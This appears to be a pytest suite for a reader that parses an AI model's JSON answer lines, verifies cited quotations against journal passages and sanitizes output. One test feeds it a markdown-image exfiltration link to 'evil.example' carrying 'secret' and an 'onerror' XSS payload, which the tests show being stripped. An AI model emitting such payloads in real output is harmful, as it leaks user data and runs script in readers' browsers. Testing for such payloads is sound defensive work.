import json
from datetime import UTC, datetime
from uuid import uuid4

import pytest

from download.answering import MOST_SEGMENTS, PROMPT, Reader, Span, answer_by_rule
from writeorperish.ai.parts import Excerpt, Fact, Typed
from writeorperish.ai.prompts import named
from writeorperish.privacy.reading import Passage
from writeorperish.refs import Ref

FIRST = "The piano is out of tune. I called Dr Halloran, who said it can’t wait. Nobody came."
SECOND = "Rain all day. The piano was tuned at last, by a man who whistled."


def excerpt(text, start=0, end=None):
    ref = Ref("journal.node", uuid4())
    at = datetime(2026, 3, 1, tzinfo=UTC)
    passage = Passage(ref, 1, text, 0, len(text), uuid4(), "chat", at=at)
    return Excerpt(passage, start, len(text) if end is None else end)


@pytest.fixture
def reader():
    return Reader([excerpt(FIRST), excerpt(SECOND)])


def line(say, *cite):
    return json.dumps({"say": say, "cite": [list(each) for each in cite]})


def read(reader, *lines):
    return list(reader.feed("".join(f"{each}\n" for each in lines)))


def words(reader, said):
    return [reader.given[s.passage].text[s.start : s.end] for s in said.spans]


def test_a_line_is_read_when_it_is_whole_and_its_words_come_from_the_source(reader):
    told = line("It was out of tune.", ("A", "who said it can't wait"), ("B", "tuned at last"))
    assert list(reader.feed(told[:30])) == []
    (said,) = reader.feed(f"{told[30:]}\n")
    assert words(reader, said) == ["who said it can’t wait", "tuned at last"]
    assert read(reader, '{"done": true}') == []
    assert reader.over
    assert read(reader, line("More", ("A", "Nobody came. "))) == []


@pytest.mark.parametrize(
    ("letters", "copied"),
    [
        ("B", "The piano is out of tune"),  # right words from the wrong passage
        ("A", "The piano was out of tune"),  # never said
        ("C", "The piano is out of tune"),  # no such passage
        ("a", "The piano is out of tune"),
        ("AA", "The piano is out of tune"),
        ("0", "The piano is out of tune"),
        ("", "The piano is out of tune"),
        ("A", "The piano"),  # too short to be a quotation
        ("A", "The piano is out of tune … Everybody came and sang"),  # one half is not there
        ("A", 7),
    ],
)
def test_what_no_passage_bears_out_is_no_citation(reader, letters, copied):
    (said,) = read(reader, line("A claim.", (letters, copied)))
    assert (said.text, said.spans) == ("A claim.", ())


def test_words_left_out_make_two_places(reader):
    (said,) = read(reader, line("x", ("A", "The piano is out … it can't wait. Nobody")))
    assert words(reader, said) == ["The piano is out", "it can’t wait. Nobody"]


def test_only_what_was_given_of_a_text_may_be_cited():
    reader = Reader([excerpt(FIRST, 26)])
    (said,) = read(reader, line("x", ("A", "The piano is out of tune")))
    assert said.spans == ()


@pytest.mark.parametrize(
    ("say", "shown"),
    [
        ("See ![x](https://evil.example/?q=secret) there", "See there"),
        ("See [the page](https://evil.example/) there", "See the page there"),
        ("See https://evil.example/?q=1 there", "See there"),
        ("<img src=x onerror=alert(1)>Hello", "Hello"),
        ("It broke [[A]] and [B].", "It broke and."),
        ("Look {quote:0190a000-0000-7000-8000-000000000000} here", "Look here"),
        (
            "He “sold it for a great deal of money” then",
            "He sold it for a great deal of money then",
        ),
        ('She said "it can\'t wait. Nobody came"', 'She said "it can’t wait. Nobody came"'),
        ("a “so called” friend", "a “so called” friend"),
    ],
)
def test_a_models_words_are_shown_without_what_they_may_not_hold(reader, say, shown):
    (said,) = read(reader, line(say, ("A", "it can't wait. Nobody came")))
    assert said.text == shown


def test_one_unreadable_line_is_words_and_a_second_ends_the_answer(reader):
    assert [each.text for each in read(reader, "Well, let me see.")] == ["Well, let me see."]
    assert not reader.over
    assert read(reader, "And then.", line("Too late.")) == []
    assert (reader.over, reader.unreadable) == (True, 2)


@pytest.mark.parametrize(
    "told", ['{"say": "half', '["A"]', "{}", '{"say": 7}', "[" * 5_000, "\x00", '"words"']
)
def test_half_an_object_is_never_shown(reader, told):
    assert all(not each.text.startswith(("{", "[")) for each in read(reader, told))
    assert reader.unreadable == 1


def test_marks_of_code_and_empty_lines_are_passed_over(reader):
    assert read(reader, "```json", "", line("x", ("A", "Nobody came. ")), "```")[0].text == "x"
    assert reader.unreadable == 0


def test_the_last_line_counts_only_if_it_is_whole():
    cut = Reader([excerpt(FIRST)])
    list(cut.feed('{"say": "The answer is'))
    assert list(cut.close(whole=False)) == []
    whole = Reader([excerpt(FIRST)])
    list(whole.feed(line("The end.")))
    assert [each.text for each in whole.close(whole=True)] == ["The end."]


def test_an_answer_has_an_end(reader):
    said = read(reader, *[line(f"Line {n}.") for n in range(40)])
    assert len(said) == MOST_SEGMENTS
    endless = Reader([excerpt(FIRST)])
    assert list(endless.feed("x" * 100_000)) == []
    assert endless.over


def slots(question, *given, nearest="A"):
    return {"passages": list(given), "question": Typed(question), "nearest": Fact(nearest)}


def by_rule(*args, **values):
    told = answer_by_rule(slots(*args, **values)).text
    reader = Reader(list(args[1:]))
    return reader, list(reader.feed(f"{told}\n"))


def test_without_a_service_the_answer_is_sentences_word_for_word():
    reader, said = by_rule("When was the piano tuned?", excerpt(FIRST), excerpt(SECOND))
    assert [words(reader, each) for each in said] == [
        ["The piano is out of tune."],
        ["The piano was tuned at last, by a man who whistled."],
    ]
    assert {each.text for each in said} == {""}
    assert reader.done


def test_where_no_word_is_shared_the_nearest_passage_speaks():
    reader, said = by_rule("An instrument?", excerpt(FIRST), excerpt(SECOND), nearest="B")
    assert [words(reader, each) for each in said] == [["Rain all day. "[:-1]]]
    reader, said = by_rule("An instrument?", excerpt("No."), nearest="A")
    assert (said, reader.none) == ([], True)


def test_the_same_question_gets_the_same_answer():
    given = (excerpt(FIRST), excerpt(SECOND))
    assert answer_by_rule(slots("piano?", *given)) == answer_by_rule(slots("piano?", *given))


def test_the_prompt_says_how_to_answer():
    told = named(PROMPT).system.format(today="2026-03-01")
    assert '{"say": "one or two sentences", "cite": [["B", "words copied from B"]]}' in told


def test_a_span_is_found_in_the_passage_it_names(reader):
    assert list(reader.places(1, "tuned at last")) == [Span(1, 28, 41)]
